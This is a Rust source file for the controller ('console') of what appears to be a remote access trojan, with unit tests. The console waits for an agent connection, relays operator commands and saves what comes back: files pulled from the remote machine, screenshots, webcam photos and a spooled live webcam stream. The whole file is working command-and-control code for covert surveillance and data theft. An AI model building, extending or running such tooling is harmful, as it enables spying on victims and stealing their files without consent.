//! Console-role session endpoint.
//!
//! Binds, accepts one agent connection, then runs the interactive loop:
//! each line of operator input is sent verbatim, and the console always
//! prints something for every non-empty command — response text, a saved-file
//! path, a byte-count summary, or an error string.

use std::io::Write as _;
use std::path::Path;

use anyhow::{Context, Result};
use rand::Rng;
use tokio::io::{AsyncBufReadExt, AsyncRead, AsyncWriteExt, BufReader, Lines};
use tokio::net::TcpListener;
use tokio::sync::watch;
use tracing::{info, warn};

use crate::command::{Command, HELP_TEXT};
use crate::config::Config;
use crate::stream::{consume, SpoolSink};
use crate::transport::{recv_until_sentinel, send_text, SentinelPayload};

/// The controller endpoint: owns the listening sockets and the operator loop.
pub struct Console {
    config: Config,
}

impl Console {
    pub const fn new(config: Config) -> Self {
        Self { config }
    }

    /// Bind, wait for the agent, then serve operator input until `terminate`
    /// or end of input. Failing to bind is fatal.
    pub async fn run(&self) -> Result<()> {
        let addr = self.config.command_addr(&self.config.listen_host);
        let listener = TcpListener::bind(&addr)
            .await
            .with_context(|| format!("Cannot bind listening socket on {addr}"))?;
        info!(addr = %addr, "Console listening");
        println!("[+] Waiting for agent connection...");

        let (mut conn, peer) = listener
            .accept()
            .await
            .context("Failed to accept agent connection")?;
        info!(peer = %peer, "Agent connected");
        println!("[+] Connected with {peer}");
        println!("{HELP_TEXT}");

        let mut input = BufReader::new(tokio::io::stdin()).lines();

        loop {
            print!("\n> ");
            std::io::stdout().flush().ok();

            let Some(line) = input.next_line().await? else {
                break; // operator closed stdin
            };
            let line = line.trim().to_string();
            if line.is_empty() {
                continue;
            }
            if line == "help" {
                println!("{HELP_TEXT}");
                continue;
            }

            send_text(&mut conn, &line).await?;

            match Command::parse(&line) {
                Command::Terminate => {
                    info!("Terminating session");
                    break;
                }
                Command::Download(name) => {
                    let dest = self.config.download_dir.join(&name);
                    self.receive_into(&mut conn, &dest).await?;
                }
                Command::Screenshot | Command::CamPic => {
                    let dest = self.config.download_dir.join(random_filename(".jpg", 10));
                    self.receive_into(&mut conn, &dest).await?;
                }
                Command::Webcam => {
                    self.receive_stream(&mut input).await?;
                }
                _ => {
                    let response = self.receive_response(&mut conn).await?;
                    println!("{}", render_response(&response));
                }
            }
        }

        let _ = conn.shutdown().await;
        info!("Console stopped");
        Ok(())
    }

    async fn receive_response<C>(&self, conn: &mut C) -> Result<SentinelPayload>
    where
        C: AsyncRead + Unpin,
    {
        let payload = recv_until_sentinel(
            conn,
            self.config.max_response_bytes,
            self.config.buffer_size,
        )
        .await?;
        if !payload.is_complete() {
            warn!(end = ?payload.end, bytes = payload.bytes.len(), "Response incomplete");
        }
        Ok(payload)
    }

    /// Receive one payload and save it, creating parent directories. An
    /// `ERROR:`-prefixed body is printed instead of saved. (A binary payload
    /// that happens to start with that prefix would be misread; accepted
    /// limitation of the textual error convention.)
    async fn receive_into<C>(&self, conn: &mut C, dest: &Path) -> Result<()>
    where
        C: AsyncRead + Unpin,
    {
        let payload = self.receive_response(conn).await?;

        if payload.bytes.starts_with(b"ERROR:") {
            println!("[-] {}", String::from_utf8_lossy(&payload.bytes));
            return Ok(());
        }

        if let Some(parent) = dest.parent() {
            tokio::fs::create_dir_all(parent)
                .await
                .with_context(|| format!("Failed to create {}", parent.display()))?;
        }
        tokio::fs::write(dest, &payload.bytes)
            .await
            .with_context(|| format!("Failed to write {}", dest.display()))?;

        info!(path = %dest.display(), bytes = payload.bytes.len(), "Payload saved");
        println!("[+] Saved to: {}", dest.display());
        Ok(())
    }

    /// Consume the stream channel until the operator presses Enter. Frames
    /// are spooled under the download directory.
    async fn receive_stream<R>(&self, input: &mut Lines<BufReader<R>>) -> Result<()>
    where
        R: AsyncRead + Unpin,
    {
        let addr = self.config.stream_addr(&self.config.listen_host);
        let listener = TcpListener::bind(&addr)
            .await
            .with_context(|| format!("Cannot bind stream socket on {addr}"))?;
        println!("[+] Waiting for stream... press Enter to stop");

        let (mut conn, peer) = listener
            .accept()
            .await
            .context("Failed to accept stream connection")?;
        info!(peer = %peer, "Stream connected");

        let (quit_tx, quit_rx) = watch::channel(false);
        let spool_dir = self.config.download_dir.join("stream");
        let mut sink = SpoolSink::new(spool_dir.clone(), quit_rx)
            .await
            .context("Failed to create stream spool directory")?;

        let consume_fut = consume(&mut conn, &mut sink, self.config.max_frame_bytes);
        tokio::pin!(consume_fut);

        let mut quit_sent = false;
        let frames = loop {
            if quit_sent {
                break consume_fut.await?;
            }
            tokio::select! {
                result = &mut consume_fut => break result?,
                _ = input.next_line() => {
                    quit_sent = true;
                    let _ = quit_tx.send(true);
                }
            }
        };

        println!("[+] Stream stopped ({frames} frames in {})", spool_dir.display());
        Ok(())
    }
}

/// Random lowercase filename for captured images.
fn random_filename(extension: &str, length: usize) -> String {
    let mut rng = rand::thread_rng();
    let name: String = (0..length)
        .map(|_| rng.gen_range(b'a'..=b'z') as char)
        .collect();
    format!("{name}{extension}")
}

/// Response text, or a byte-count summary when it is not valid UTF-8.
fn render_response(payload: &SentinelPayload) -> String {
    std::str::from_utf8(&payload.bytes).map_or_else(
        |_| format!("[Binary response: {} bytes]", payload.bytes.len()),
        ToString::to_string,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::transport::{PayloadEnd, SENTINEL};

    fn console_with_dir(dir: &Path) -> Console {
        Console::new(Config {
            download_dir: dir.to_path_buf(),
            ..Config::default()
        })
    }

    fn payload_wire(body: &[u8]) -> Vec<u8> {
        let mut wire = body.to_vec();
        wire.extend_from_slice(SENTINEL);
        wire
    }

    #[test]
    fn random_filename_shape() {
        let name = random_filename(".jpg", 10);
        assert_eq!(name.len(), 14);
        assert!(name.ends_with(".jpg"));
        assert!(name[..10].chars().all(|c| c.is_ascii_lowercase()));

        // Vanishingly unlikely to collide
        assert_ne!(random_filename(".jpg", 10), random_filename(".jpg", 10));
    }

    #[test]
    fn render_text_response() {
        let payload = SentinelPayload {
            bytes: b"total 0\n".to_vec(),
            end: PayloadEnd::Sentinel,
        };
        assert_eq!(render_response(&payload), "total 0\n");
    }

    #[test]
    fn render_binary_response_as_summary() {
        let payload = SentinelPayload {
            bytes: vec![0xff, 0xfe, 0x00, 0x80],
            end: PayloadEnd::Sentinel,
        };
        assert_eq!(render_response(&payload), "[Binary response: 4 bytes]");
    }

    #[tokio::test]
    async fn receive_into_saves_and_creates_directories() {
        let dir = tempfile::tempdir().unwrap();
        let console = console_with_dir(dir.path());
        let dest = dir.path().join("nested/deep/file.bin");

        let wire = payload_wire(b"binary\x00content");
        let mut conn = std::io::Cursor::new(wire);
        console.receive_into(&mut conn, &dest).await.unwrap();

        assert_eq!(std::fs::read(&dest).unwrap(), b"binary\x00content");
    }

    #[tokio::test]
    async fn receive_into_prints_error_instead_of_saving() {
        let dir = tempfile::tempdir().unwrap();
        let console = console_with_dir(dir.path());
        let dest = dir.path().join("missing.txt");

        let wire = payload_wire(b"ERROR: File not found");
        let mut conn = std::io::Cursor::new(wire);
        console.receive_into(&mut conn, &dest).await.unwrap();

        assert!(!dest.exists());
    }

    #[tokio::test]
    async fn receive_response_is_size_capped() {
        let dir = tempfile::tempdir().unwrap();
        let console = Console::new(Config {
            download_dir: dir.path().to_path_buf(),
            max_response_bytes: 16,
            ..Config::default()
        });

        let mut conn = std::io::Cursor::new(vec![b'x'; 64]);
        let payload = console.receive_response(&mut conn).await.unwrap();
        assert_eq!(payload.bytes.len(), 16);
        assert_eq!(payload.end, PayloadEnd::Capped);
    }
}
